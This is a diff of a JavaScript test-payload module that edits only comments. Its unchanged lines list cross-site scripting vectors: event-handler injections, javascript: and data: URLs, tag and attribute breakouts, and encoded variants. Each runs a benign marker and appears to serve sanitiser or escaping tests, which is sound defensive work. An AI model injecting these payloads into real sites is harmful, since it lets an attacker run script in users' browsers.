@@ -1,4 +1,4 @@
-// Sixty texts that run as script, or make an element, where a page takes a text for markup, an address or code.
+// Sixty texts that run as script, or make an element, if a page takes a text for markup, an address or code.
 
 const RUN = 'top.evil=1';
 /** Every element that a text makes has this attribute. */
@@ -39,7 +39,7 @@ export const PAYLOADS = [
   `<use ${SIGN} href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
   `<a ${SIGN} xlink:href="javascript:${RUN}"><circle r=400></circle></a>`,
   `]]><script ${SIGN}>${RUN}</script><![CDATA[`,
-  // Out of an element, an attribute or a comment.
+  // Texts that break out of an element, an attribute or a comment.
   `</h1><img ${SIGN} src onerror=${RUN}>`,
   `</p></div></main><script ${SIGN}>${RUN}</script>`,
   `</textarea><img ${SIGN} src onerror=${RUN}>`,
@@ -53,7 +53,7 @@ export const PAYLOADS = [
   `' ${SIGN} onmouseover=${RUN} x='`,
   `\` ${SIGN} onmouseover=${RUN} x=\``,
   `x ${SIGN} onpointerenter=${RUN}`,
-  // Written another way.
+  // Texts in other encodings.
   `&lt;img ${SIGN} src onerror=${RUN}&gt;`,
   `&#60;img ${SIGN} src onerror=${RUN}&#62;`,
   `%3Cimg%20${SIGN}%20src%20onerror=${RUN}%3E`,
@@ -63,7 +63,7 @@ export const PAYLOADS = [
   `<img/${SIGN}/src/onerror=${RUN}>`,
   `<<img ${SIGN} src onerror=${RUN}>>`,
   `\uFF1Cimg ${SIGN} src onerror=${RUN}\uFF1E<img ${SIGN} src onerror=${RUN}>`,
-  // Code, addresses, and places that are filled in.
+  // Code, addresses, and placeholders that are filled in.
   `javascript:${RUN}`,
   `data:text/html,<script ${SIGN}>${RUN}</script>`,
   `\${${RUN}}`,
